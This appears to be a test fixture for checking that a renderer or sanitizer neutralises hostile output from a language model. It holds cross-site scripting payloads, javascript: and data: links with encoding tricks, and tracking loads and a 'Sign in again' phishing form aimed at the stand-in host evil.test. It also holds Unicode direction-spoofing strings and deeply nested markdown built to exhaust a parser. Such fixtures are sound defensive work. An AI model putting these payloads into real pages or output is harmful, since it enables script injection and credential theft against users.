/**
 * What a model might be made to say in order to take over the page that shows it. Each would set `hit`, open a
 * dialog, change the title, or ask the address `EVIL` for something.
 */
const EVIL = "http://evil.test";
const RUN = "window.hit=1;alert(1)";

const markup = [
  `<script>${RUN}</script>`,
  `<SCRIPT SRC=${EVIL}/x.js></SCRIPT>`,
  `<img src=x onerror="${RUN}">`,
  `<img src="${EVIL}/pixel.gif" alt="seen">`,
  `<svg onload="${RUN}"><circle r="9"/></svg>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><a xlink:href="javascript:${RUN}"><text>press</text></a></svg>`,
  `<svg><use href="${EVIL}/s.svg#x"/></svg>`,
  `<iframe src="javascript:${RUN}"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="${EVIL}/x.swf"></object><embed src="${EVIL}/x">`,
  `<body onload="${RUN}"><details open ontoggle="${RUN}">x</details>`,
  `<input autofocus onfocus="${RUN}"><video><source onerror="${RUN}"></video>`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}/away">`,
  `<base href="${EVIL}/"><a href="next">next</a>`,
  `<link rel="stylesheet" href="${EVIL}/x.css"><link rel="prefetch" href="${EVIL}/p">`,
  `<style>*{background:url(${EVIL}/css)}</style>`,
  `<style>@import "${EVIL}/import.css";</style>`,
  `<div style="background:url(${EVIL}/style);position:fixed;inset:0;z-index:9999">over everything</div>`,
  `<form action="${EVIL}/steal"><input name=key><button>Sign in again</button></form>`,
  `<math><mtext><table><mglyph><style><img src=x onerror="${RUN}"></style></mglyph></table></mtext></math>`,
  `<template><script>${RUN}</script></template><noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<a href="javascript:${RUN}">press me</a><a href=" &#1;javascript:${RUN}">me too</a>`,
  `<audio src=x onerror="${RUN}"><marquee onstart="${RUN}">x</marquee>`,
];

const malformed = [
  `<<script>script>${RUN}<</script>/script>`,
  `<img """><script>${RUN}</script>">`,
  `<scr\0ipt>${RUN}</scr\0ipt>`,
  `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[<script>${RUN}</script>]]>`,
  `</p></div></li></ol></main><script>${RUN}</script>`,
  `&lt;script&gt;${RUN}&lt;/script&gt; &#60;img src=x onerror=${RUN}&#62;`,
  `<p title="\`onmouseover=${RUN}\`">\`<script>\`${RUN}`,
];

const links = [
  `[press](javascript:${RUN})`,
  `[press](JaVaScRiPt:${RUN})`,
  `[press](java\tscript:${RUN})`,
  `[press](javascript&colon;${RUN})`,
  `[press](&#106;avascript:${RUN})`,
  `[press](%6Aavascript:${RUN})`,
  `[press](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)`,
  `[press](vbscript:msgbox(1)) [file](file:///etc/passwd) [blob](blob:${EVIL}/1) [about](about:blank)`,
  `<javascript:${RUN}> <data:text/html,hello>`,
  `[press][evil]\n\n[evil]: javascript:${RUN} "harmless"`,
  `[press](${EVIL}/next "x\\" onmouseover=\\"${RUN}")`,
  `[press](<${EVIL}/a" onclick="${RUN}>)`,
  `[https://bank.example](${EVIL}/login)`,
  `[press](//evil.test/next) [or](/v1/me) [or](\\\\evil.test\\share) [or](https://)`,
  `[press](https://user:secret@evil.test:443/) [mail](mailto:a@b.example?body=${RUN})`,
  `${EVIL}/bare and www.evil.test and a@evil.test and http://evil.test/"onmouseover="${RUN}`,
];

const pictures = [
  `![seen](${EVIL}/pixel.png)`,
  `![seen](javascript:${RUN})`,
  `![x" onerror="${RUN}](${EVIL}/x.png "y" onload="${RUN}")`,
  `[![deep](${EVIL}/in.png)](javascript:${RUN})`,
  `![self](/v1/me) ![svg](data:image/svg+xml,<svg onload="${RUN}"/>)`,
];

const tricks = [
  `\u202Egnp.exe\u202C and \u2066isolated\u2069 and \u200Fmarked\u200E`,
  `[\u202Emoc.knab//:sptth](${EVIL}/rtl)`,
  `\`\`\`html"><script>${RUN}</script>\n<script>${RUN}</script>\n\`\`\``,
  `| a<script>${RUN}</script> | b |\n|---|---|\n| ![x](${EVIL}/cell) | [y](javascript:${RUN}) |`,
  `# <img src=x onerror=${RUN}>\n\n> > <iframe src=${EVIL}></iframe>\n\n- [ ] <input onfocus=${RUN} autofocus>`,
  `${">".repeat(3000)} deep`,
  `${"[".repeat(1200)}x${"](y)".repeat(1200)}`,
  `${"- ".repeat(1200)}deep`,
  `${"*a _b ".repeat(1000)}deep`,
  `${"`".repeat(2000)}x ${"<a ".repeat(1000)}deep`,
  `${"|".repeat(900)}\n${"|-".repeat(900)}|\n${"|x".repeat(900)}`,
  `zalgo ${"e\u0301\u0302\u0303\u0304".repeat(300)}${"w".repeat(2000)}`,
];

/** All of them. */
export const HOSTILE = [...markup, ...malformed, ...links, ...pictures, ...tricks];
